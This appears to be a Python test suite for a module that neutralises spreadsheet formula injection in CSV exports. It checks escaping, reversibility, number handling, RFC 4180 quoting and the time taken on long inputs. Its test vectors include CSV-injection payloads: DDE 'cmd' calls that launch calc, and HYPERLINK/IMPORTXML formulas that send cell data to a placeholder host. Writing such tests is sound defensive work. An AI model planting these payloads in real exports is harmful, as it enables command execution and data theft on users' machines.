"""Exports that no spreadsheet executes."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sync_platform.transforms.spreadsheet_safe import original, safe, safe_lines

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    " =",
    "\u00a0@",
]
STARTS += ["\u200b=", "\ufeff+", "\t", "\r", "\n", "\0"]
PAYLOADS = [
    'HYPERLINK("https://example.invalid?x="&A1,"click")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("https://example.invalid","//a")',
    "WEBSERVICE(A1)",
    "2+5+cmd|' /C calc'!A0",
    "1;=1+1",
    '1"',
    "A1\n=1+1",
    "x, y",
]
VECTORS = [start + payload for start in STARTS for payload in PAYLOADS]
NASTY = st.text(st.sampled_from("=+-@\t\r\n\0 '\";|,a5.\u200b\uff1d"), max_size=12) | st.text(max_size=20)


def starts(text: str) -> list[str]:
    """Where any program, whatever separator it expects, could see the beginning of a cell."""
    return [part.lstrip(" \0\u00a0\u200b\ufeff") for part in re.split("[;\t|\r\n]", text)]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_begins_a_formula(vector: str) -> None:
    """SEC-41, F-54: all of 200, and they can be had back."""
    assert len(VECTORS) >= 200
    shown = safe(vector)
    assert shown.startswith("'")
    assert not any(start[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20\u2212") for start in starts(shown) if start)
    assert original(shown) == vector


@given(NASTY)
@example("'\n'\n=")
@example("'=")
@example("\t=x")
def test_every_cell_is_safe_and_can_be_had_back(cell: str) -> None:
    """SEC-41."""
    shown = safe(cell)
    assert original(shown) == cell
    assert shown[:1] not in ("=", "+", "@", "\t", "\r", "\n", "\0")
    assert shown[:1] != "-" or re.fullmatch(r"-[0-9]+([.,][0-9]+)?", shown)


@pytest.mark.parametrize("number", ["-5", "-5.25", "-5,25", "5", "0.10"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    """SEC-41: a negative amount does no harm and can be added up."""
    assert safe(number) == number


@pytest.mark.parametrize("cell", ["-5+1", "-A1", "+49 30 1234", "-", "-5\n", "--5", "-.5"])
def test_what_only_looks_like_a_number_is_made_safe(cell: str) -> None:
    """SEC-41."""
    assert safe(cell) == "'" + cell


@given(st.lists(st.lists(NASTY | st.none(), min_size=1, max_size=4), max_size=5))
def test_lines_are_read_back_by_any_reader_of_the_standard(rows: list[list[str | None]]) -> None:
    """SEC-41: RFC 4180 quoting; lone surrogates become question marks."""
    text = "".join(safe_lines(rows))
    found = [[original(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""), strict=True)]
    assert found == [[(cell or "").encode("utf-8", "replace").decode() for cell in row] for row in rows]


@pytest.mark.parametrize(
    "cell", ["'" * 65_536 + "x", " " * 65_536, "\n" * 65_536, "\n '" * 20_000, "'\n" * 30_000 + "="]
)
def test_no_cell_takes_long(cell: str) -> None:
    """F-54: 64 KiB of what the rule looks at."""
    assert original(safe(cell)) == cell
